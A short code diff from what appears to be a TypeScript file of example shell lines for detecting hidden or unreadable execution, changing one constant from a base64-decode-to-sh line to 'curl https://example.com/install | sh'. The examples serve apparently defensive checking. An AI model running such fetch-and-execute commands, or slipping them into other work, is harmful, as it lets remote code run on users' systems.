@@ -121,8 +121,8 @@ const HIDING: readonly string[] = [
   'git rebase --exec something',
 ];
 
-/** A shell line that runs whatever is encoded in base64. */
-const CODED = "'echo c29tZXRoaW5n | base64 -d | sh'";
+/** A shell line that runs what no one can read in it. */
+const CODED = "'curl https://example.com/install | sh'";
 
 /** Places where a program is given something to run that cannot be read there. */
 const CARRYING: readonly string[] = [
